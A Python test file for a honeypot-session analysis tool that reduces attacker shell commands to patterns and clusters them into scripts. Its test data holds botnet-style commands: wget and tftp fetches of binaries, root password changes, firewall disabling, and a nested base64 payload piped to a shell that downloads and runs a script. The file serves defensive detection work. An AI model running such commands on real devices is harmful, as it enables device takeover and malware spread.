"""Commands become patterns: the same script gives the same pattern, whatever varies, and hostile text costs
little."""

from __future__ import annotations

import base64
import csv
import io
from pathlib import Path

import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st

from andon.detect.intel.session import reading, shell, urls, words
from spent import spent


def pattern(text: str) -> str:
    return shell.masked(text).pattern


@pytest.mark.parametrize(
    ("one", "two"),
    [
        ("wget http://192.0.2.1/bins/sora.arm7", "wget http://198.51.100.9:8080/b.sh"),
        ("cd /tmp; ./oMNUckLhyt", "cd /tmp; ./rTqWp8sKd"),
        ('echo "root:hunter2"|chpasswd', 'echo "root:other99"|chpasswd'),
        ('echo -e "a1b2\\nXyz1\\nXyz1"|passwd; echo "u a1b2" > x',
         'echo -e "c3d4\\nQrs1\\nQrs1"|passwd; echo "u c3d4" > x'),
        ("./bot.arm7", "./bot.mips"),
        ("/bin/busybox SATORI", "/bin/busybox ECCHI"),
        ("cat /var/tmp/.var03522123", "cat /var/tmp/.var99918273"),
        ("tftp -g -r a 192.0.2.1", "tftp -g -r a 203.0.113.200"),
    ],
)  # fmt: skip
def test_what_varies_within_a_script_does_not_change_its_pattern(one: str, two: str) -> None:
    assert one != two
    assert pattern(one) == pattern(two)


@pytest.mark.parametrize(
    ("one", "two"),
    [
        ("cat /proc/cpuinfo", "cat /proc/version"),
        ("./dvrHelper", "./upnp"),
        ("head -n 1", "head -n 2"),
        ("busybox wget", "busybox tftp"),
        ("service iptables stop", "SuSEfirewall2 stop"),
    ],
)
def test_what_tells_scripts_apart_stays(one: str, two: str) -> None:
    assert pattern(one) == one
    assert pattern(two) == two


def test_what_was_put_aside_is_kept_as_values() -> None:
    found = shell.masked(
        "/bin/busybox wget http://192.0.2.7/a.mips -O - > x; /bin/busybox LZRD; hostname up9\ncd 192.0.2.8"
    )
    assert found.values["token"] == ["LZRD"]
    assert found.values["url"] == ["http://192.0.2.7/a.mips"]
    assert found.values["ip"] == ["192.0.2.8"]


def test_applets_are_no_tokens() -> None:
    text = "; ".join(
        f"/bin/busybox {name}" for name in sorted(words.APPLETS) if 3 <= len(name) <= 16 and name.isalnum()
    )
    assert shell.masked(text).values.get("token") is None


def test_base64_that_is_piped_into_a_shell_is_opened_even_within_itself() -> None:
    inner = base64.b64encode(b"wget http://192.0.2.1/x.sh; sh x.sh").decode()
    outer = base64.b64encode(f"echo {inner} | base64 -d | bash".encode()).decode()
    found = shell.masked(f"cd /tmp; echo {outer} | base64 --decode | sh")
    assert found.values["url"] == ["http://192.0.2.1/x.sh"]
    assert shell.statements(found.pattern)[1:] == ("wget <URL>", "sh x.sh")


def test_separators_in_quotes_do_not_separate() -> None:
    text = """awk '{print $1; print $2}' | grep "a;b" && echo it\\;s || x 2>&1; y & z"""
    assert shell.statements(text) == (
        "awk '{print $1; print $2}'", 'grep "a;b"', "echo it\\;s", "x 2>&1", "y", "z",
    )  # fmt: skip


def test_escapes_are_undone_and_programs_are_not_kept() -> None:
    assert pattern(r"echo -e '\x47\x72\x6f\x70/tmp' > /tmp/.nippon") == "echo -e 'Grop/tmp' > /tmp/.nippon"
    stub = "".join(f"\\x{byte:02x}" for byte in b"\x7fELF\x01\x01\x01" + bytes(40))
    found = shell.masked(f"echo -ne '{stub}' > .s; echo -ne '\\x00\\x01\\x02\\x03\\xff\\xfe\\xfd\\xfc' >> .s")
    assert found.pattern == "echo -ne '<BIN>' > .s; echo -ne '<BIN>' >> .s"
    assert len(found.values["binary"]) == 2


def test_bases_of_urls_lose_host_and_architecture() -> None:
    found = {
        urls.base(f"http://192.0.2.{n}:8{n}/bins/UnHAnaAW.{arch}")
        for n, arch in enumerate(("x86", "arm7", "mpsl", "sh4"))
    }
    assert found == {"/bins/UnHAnaAW."}
    assert urls.base("http://192.0.2.1/Mozi.m") == urls.base("http://192.0.2.2:48212/Mozi.a") == "/Mozi."
    assert urls.base("http://192.0.2.1/") == urls.base("http://192.0.2.1/arm7") == ""


HOSTILE = (
    "echo '" * 3000, 'echo "' * 3000, "\\x7f" * 5000, "a:" * 8000, "1." * 8000, "A" * 16_000, "busybox " * 2000,
    "echo -a " * 2000, "http://" * 2500, "&" * 16_000, "$'" * 8000, "\\" * 16_000, "/tmp/" * 3000, "ssh-rsa " * 2000,
    "echo " + "QQ" * 8000 + " | base64 -d | sh",
    ("echo x | " * 1700) + "passwd", "awk {" * 3000, " " * 16_000, "\x7fELF" * 4000,
    "7f454c46" * 2000, "-" * 16_000, "\x00" * 16_000,
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_takes_time_in_proportion_to_its_length(text: str) -> None:
    with spent() as cost:
        found = reading.of_commands(text)
    assert cost.seconds < 1.0
    assert len(found.pattern) < 4 * shell.LONGEST
    assert len(shell.statements(found.pattern)) <= shell.MOST


@given(st.text(max_size=400))
def test_any_text_becomes_a_pattern_that_is_bounded(text: str) -> None:
    found = reading.of_commands(text)
    assert len(found.behaviours) <= 400
    assert all(isinstance(kind, str) and value for kind, value in found.behaviours)
    shell.statements(found.pattern)


PIECES = st.sampled_from(
    ["\\x7f", "\\x41", "'", '"', ";", "|", "&&", "\n", "echo ", "passwd", "base64 -d", "sh", "busybox ", "AAAA", "http://a/b",
     "192.0.2.1", "$'", "\\", "<BIN 3 bytes sha256 ", "0" * 64, ">", "awk {", "}", "\u202e", "\ud83d"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=60).map("".join))
def test_any_mixture_of_syntax_becomes_a_pattern(text: str) -> None:
    found = shell.masked(text)
    assert "\\x7f\\x7f\\x7f" not in found.pattern
    assert len(shell.statements(found.pattern)) <= shell.MOST


@pytest.mark.real_data
def test_cyberlab_has_eighteen_scripts(andon_data: Path) -> None:
    with (andon_data / "joint/shell/cyberlab_sessions.csv.zst").open("rb") as file:
        text = zstandard.ZstdDecompressor(max_window_size=1 << 27).stream_reader(file).read().decode()
    texts = [row["session"] for row in csv.DictReader(io.StringIO(text))]
    assert len(set(texts)) == len(texts) == 1974
    assert len({shell.statements(pattern(one)) for one in texts}) == 18
